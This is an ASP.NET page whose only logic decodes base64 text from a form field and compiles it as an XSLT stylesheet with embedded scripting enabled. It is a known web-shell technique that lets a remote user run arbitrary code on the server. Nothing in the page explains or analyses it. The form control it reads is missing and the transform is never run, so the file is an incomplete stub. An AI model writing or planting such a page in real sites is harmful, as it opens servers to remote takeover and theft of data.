<%@ Page Language="C#" %>
<%@ Import Namespace="System.Xml" %>
<%@ Import Namespace="System.Xml.Xsl" %>
<script runat="server">
void Run(object s, EventArgs e) {
    string sheet = System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(box.Text));
    var xsl = new XmlDocument();
    xsl.LoadXml(sheet);
    var opts = new XsltSettings(false, true);
    var t = new XslCompiledTransform();
    t.Load(xsl, opts, new XmlUrlResolver());
}
</script>
